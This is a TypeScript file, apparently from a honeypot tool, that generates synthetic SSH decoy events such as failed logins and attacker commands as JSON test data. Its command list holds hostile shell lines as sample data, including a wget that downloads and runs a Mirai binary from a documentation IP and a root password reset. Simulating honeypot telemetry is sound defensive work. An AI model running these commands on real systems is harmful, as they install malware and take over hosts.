/** Deterministic events like those of the SSH decoy, 600 to 1,100 bytes as JSON: a few sources do most, many do little. */
import type { Event } from '@netsentinel/contracts/event';

const USERS = ['root', 'admin', 'ubuntu', 'oracle', 'postgres', 'test', 'git', 'deploy', 'pi', 'nagios'];
const COMMANDS = [
  'uname -a; cat /proc/cpuinfo | grep name | wc -l',
  'wget -q http://198.51.100.23/bins/mirai.arm7 -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x ssh',
  'cd ~; chattr -ia .ssh; lockr -ia .ssh',
  'echo "root:Zx81pq" | chpasswd | bash',
  'crontab -l; ls -la /var/spool/cron',
  'ps aux | grep -v grep | grep xmrig',
];
const COUNTRIES = ['CN', 'US', 'NL', 'RU', 'BR', 'IN', 'DE', 'VN', 'KR', 'SG'];
const ORGANISATIONS = ['Example Hosting Ltd', 'Documentation Networks', 'Sample Cloud Inc', 'Test Telecom'];

/** Event number `index` of a stream that begins at `startMs` and has `perSecond` events a second. */
export function sampleEvent(index: number, startMs: number, perSecond: number): Event {
  const random = mix(index);
  const session = Math.floor(index / 12);
  const sessionRandom = mix(session ^ 0x5bd1e995);
  // A tenth of the addresses make nine tenths of the sessions.
  const source = sessionRandom % 10 < 9 ? sessionRandom % 997 : sessionRandom % 200_003;
  const ip = `10.${(source >>> 16) & 255}.${(source >>> 8) & 255}.${source & 255}`;
  const time = new Date(startMs + Math.floor((index * 1000) / perSecond)).toISOString();
  const sessionId = `ssh-1~m4k2x9~${session.toString(36)}`;
  const user = USERS[random % USERS.length]!;
  const step = index % 12;
  const base = {
    '@timestamp': time,
    source: {
      ip,
      port: 1024 + (sessionRandom % 60_000),
      geo: { country_iso_code: COUNTRIES[source % 10]! },
      as: { number: 64_496 + (source % 16), organization: { name: ORGANISATIONS[source % 4]! } },
    },
    destination: { ip: '192.0.2.10', port: 22 },
    network: { transport: 'tcp', type: 'ipv4', protocol: 'ssh', direction: 'inbound' },
    related: { ip: [ip], user: [user] },
  };
  const netsentinel = {
    decoy: { id: 'ssh-1', type: 'ssh', persona: 'debian-web' },
    session: { id: sessionId, sequence: step },
    sensor: { id: 'sensor-local', type: 'decoy' },
    source_verified: true,
    actor: ip,
  };
  const id = `sensor-local~m4k2x9~${index.toString(36)}`;
  const details = { id, ingested: time, kind: 'event', dataset: 'netsentinel.ssh', module: 'netsentinel' } as const;
  if (step < 8)
    return {
      ...base,
      message: `Failed password for ${user} from ${ip} port ${base.source.port} ssh2${index % 100_003 === 7 ? ' zanzibar' : ''}`,
      user: { name: user },
      event: { ...details, category: ['authentication'], type: ['start'], action: 'ssh-login', outcome: 'failure' },
      netsentinel: {
        ...netsentinel,
        credential: { method: 'password', password: `${user}${random % 10_000}`, accepted: false },
        ssh: { client_version: 'SSH-2.0-Go', hassh: '0df0d56bb50c6b2426d8d40234bf1826' },
      },
    };
  const command = COMMANDS[random % COMMANDS.length]!;
  return {
    ...base,
    message: `Command: ${command}`,
    user: { name: user },
    process: {
      name: command.split(' ')[0]!,
      command_line: command,
      args: command.split(' '),
      pid: 1000 + (random % 30_000),
    },
    event: {
      ...details,
      category: ['process'],
      type: ['start'],
      action: 'ssh-command',
      outcome: 'success',
      original: command,
    },
    netsentinel: { ...netsentinel, opened: 'exec', ssh: { client_version: 'SSH-2.0-Go' } },
  };
}

function mix(value: number): number {
  let h = Math.imul(value ^ 0x9e3779b9, 0x85ebca6b);
  h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35);
  return (h ^ (h >>> 16)) >>> 0;
}
